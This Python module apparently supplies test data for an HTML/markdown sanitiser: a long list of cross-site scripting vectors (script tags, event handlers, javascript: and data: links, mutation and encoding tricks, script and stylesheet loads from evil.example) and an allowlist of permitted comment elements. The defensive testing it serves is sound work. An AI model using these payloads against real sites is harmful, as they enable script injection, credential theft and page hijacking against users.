"""Texts that attack: the shared vectors when they are there, and some of our own for each class."""

import json
from pathlib import Path

from config.settings import BASE_DIR

SHARED = Path(BASE_DIR).parent / "shared" / "data" / "xss-vectors.json"

OWN = [
    # script in every way it can be written
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT\n>", "<script src=//evil.example/x.js></script>",
    "<svg><script>alert(1)</script></svg>", "<script>alert(1)", "<<script>alert(1)//<</script>",
    # handlers
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<body onpageshow=alert(1)>",
    '<p style="animation:x" onanimationstart=alert(1)>', "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>",
    # addresses
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](\x01javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))", "<javascript:alert(1)>", "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "![x](x\"onerror=\"alert(1))", "![x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[a]: javascript:alert(1)\n\n[a]",
    "https://a.example/\"onmouseover=\"alert(1)", "https://a.example/'><img src=x onerror=alert(1)>",
    "[x](https://a.example/\" onclick=alert(1) \")", "[x](https://a.example 'onclick=alert(1)')",
    # breaking out of the page
    "</div></article></section></main></body></html><h1>mine</h1>", "</textarea><script>alert(1)</script>", "<!--", "-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<plaintext>", "<xmp>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "</title><script>alert(1)</script>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=javascript:alert(1)><button>",
    # mutation
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\">", "<a href=\"x\" title=\"<b>\">y</a>", "<p id=\"a`b\">`<img src=x onerror=alert(1)>`",
    # code and its language
    "```\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```python\" onload=\"alert(1)\n'</span><script>alert(1)</script>'\n```", "`<script>alert(1)</script>`", "~~~ <img src=x onerror=alert(1)>\n~~~",
    # templates, direction, the shape of letters
    "{{ request.user.password }}{% load static %}", "\u202e<tpircs>\u202c", "＜script＞alert(1)＜/script＞", "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<a href=x id=location name=forms>y</a>",
]  # fmt: skip


def vectors() -> list[str]:
    """Every attack there is, ours first."""
    shared = json.loads(SHARED.read_text()) if SHARED.exists() else []
    return OWN + [row["vector"] for row in shared]


# What a comment may be made of, written down again: the test must not believe the code.
ELEMENTS = {
    "p": set(), "br": set(), "em": set(), "strong": set(), "code": set(), "ul": set(), "li": set(),
    "blockquote": set(), "ol": {"start"}, "a": {"href", "rel"}, "figure": {"class"}, "pre": {"tabindex"},
    "span": {"class"},
}  # fmt: skip
